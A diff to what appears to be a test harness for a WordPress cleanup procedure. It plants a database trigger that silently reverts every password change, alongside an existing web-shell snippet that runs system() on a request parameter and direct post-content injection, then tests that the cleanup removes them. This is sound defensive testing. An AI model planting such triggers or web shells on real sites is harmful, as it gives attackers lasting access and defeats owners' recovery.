@@ -133,6 +133,8 @@ const PLANTED_THEME = 'flavor';
 const ADMIN_EMAIL = {broken: 'support@example.net', clean: 'admin@example.com'};
 /** A trigger the site's database account may create (GRANT ALL; review r52 MEDIUM 1): one can put back what is deleted. */
 const PLANTED_TRIGGER = 'wp_keep_admin';
+/** Undoes every password change in wp_users: the block drops it before its resets. */
+const PASSWORD_TRIGGER = 'wp_keep_pass';
 /**
  * A stored procedure made by another database account, MariaDB's root (review r66a MEDIUM-1): the site's user lists it
  * but cannot export it (mysqldump stops with "insufficient privileges to SHOW CREATE PROCEDURE"), so the evidence
@@ -260,6 +262,8 @@ CREATE TABLE ${SNIPPETS_TABLE} (id bigint(20) NOT NULL AUTO_INCREMENT, name tiny
 INSERT INTO ${SNIPPETS_TABLE} (name, code, active) VALUES ('Cache helper', 'system($_GET["c"]);', 1);
 SQL
 wp --path=${SITE.root} db query "CREATE TRIGGER ${PLANTED_TRIGGER} AFTER UPDATE ON wp_usermeta FOR EACH ROW SET @seen = 1"
+# A trigger that puts each account's old hash back when a new password is set (review r84b HIGH)
+wp --path=${SITE.root} db query "CREATE TRIGGER ${PASSWORD_TRIGGER} BEFORE UPDATE ON wp_users FOR EACH ROW SET NEW.user_pass = OLD.user_pass"
 # Straight into the table: wp post create would pass it through kses, as WP-CLI runs as no user
 wp --path=${SITE.root} db query "UPDATE wp_posts SET post_content = CONCAT(post_content, '${INJECTED}') WHERE ID = 1"
 wp --path=${SITE.root} db query <<'SQL'
@@ -1233,6 +1237,12 @@ export const wordpressSecurityRecipe: Recipe = {
       ref: LOADING_CHECKS,
       edit: replace(/^# Links hidden by CSS.*\n.*\n.*\n/m, ''),
       expect: /did not list the page "Our team" with a link hidden by CSS/,
+    },
+    {
+      what: 'reset the passwords without dropping the triggers first (review r84b HIGH)',
+      ref: LOADING_CHECKS,
+      edit: replace(/^# Core makes no trigger.*\n.*\n.*\n.*\n.*\n/m, ''),
+      expect: /no new password or salts/,
     },
     {
       what: 'search for handlers after a space or a slash only (the pattern before review r76b F1)',
